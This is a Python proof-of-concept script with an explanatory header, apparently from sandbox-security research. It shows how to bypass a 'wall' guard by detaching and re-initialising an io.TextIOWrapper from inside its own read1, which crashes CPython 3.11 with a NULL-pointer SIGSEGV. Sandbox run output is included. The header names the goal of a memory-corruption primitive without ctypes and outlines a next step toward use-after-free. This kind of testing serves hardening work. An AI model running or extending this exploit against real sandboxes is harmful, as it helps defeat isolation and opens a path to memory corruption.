# family: wall (memory: TextIOWrapper detached, then re-initialised, from inside its own read: init_once bypassed, the decoder freed)   goal: crash   interpreter: /usr/bin/python3
# (fifteenth wall round, ok_04, as found.) The wall: detach() is refused while another
# call of the stream runs (wall_guard_detach), and a stream's second __init__ is refused
# by the wall's record, whatever its getters say (init_once).
# ok_04: THE NEW init_once GUARD BYPASSED BY detach(); SIGSEGV WITH THE WALL ON
#        (TextIOWrapper re-initialised from inside its own read)
#
# Mechanism: init_once (wall.py) treats an object as "initialised" only while one of its
#   getters answers something other than None. TextIOWrapper's getter is `buffer`.
#   TextIOWrapper.detach() sets self->buffer to NULL, so the member getter answers None.
#   The method is not guarded, and from inside the buffer's own read1 it runs without
#   any re-entry check (the flush it does goes to the program's buffer). So inside
#   read1: t.detach(), then t.__init__(write_only_buffer). init_once lets this second
#   __init__ through. It frees the decoder the running read_chunk belongs to, and
#   leaves self->decoder NULL (the new buffer is not readable).
#   read_chunk then continues with Py_IS_TYPE(self->decoder, ...) on NULL: SIGSEGV.
#   The wall's README says a TextIOWrapper "drops its decoder and pending text under a
#   read" and that INIT_ONCE closes this. detach() reopens it. BufferedReader/Writer/
#   Random's `raw` getter goes to None after detach() too. Their re-entry, however, is
#   stopped by 3.11's own "reentrant call" lock check in flush, so detach from inside a
#   read fails there; a second thread was not tried.
# Goal: a memory-corruption primitive reachable without ctypes, with the wall on. Here
#   it is a NULL dereference only (a crash). The decoder the outer call was using is
#   freed, but 3.11 re-reads self->decoder, so no use-after-free was built in the time
#   left. A re-init with a readable buffer and another decoder (telling/snapshot state,
#   pending decoded_chars) is the next thing to try.
# Plain python3: the same crash (rc=139) after the same two lines.
#
# sb-run output (export SAFE_EXEC_IMAGE=safe-exec-sandbox:r15; build/sb-run --full FILE):
#   status: error   exit_code: 139   Process killed by signal 11 (SIGSEGV)
#   duration 7 ms, cpu 7 ms, memory peak 14352 KiB, fresh container
#   --- stdout (96 bytes)
#   detached; buffer getter: None
#   re-initialised inside read1; decoder now NULL (write-only buffer)
#   --- stderr (0 bytes)
#
import io, sys
state = [1]
class R:
    closed = False
    def readable(self): return True
    def writable(self): return False
    def seekable(self): return False
    def flush(self): pass
    def read1(self, n):
        if state:
            state.pop()
            old = t.detach()              # buffer set to NULL: the 'buffer' getter now answers None
            print("detached; buffer getter:", t.buffer, flush=True)
            t.__init__(Wb(), encoding="latin-1")   # init_once sees buffer None: a second __init__ passes
            print("re-initialised inside read1; decoder now NULL (write-only buffer)", flush=True)
        return b"abc"
    read = read1
class Wb:
    closed = False
    def readable(self): return False
    def writable(self): return True
    def seekable(self): return False
    def flush(self): pass
    def write(self, b): return len(b)
t = io.TextIOWrapper(R(), encoding="latin-1")
print("read ->", t.read(10), flush=True)
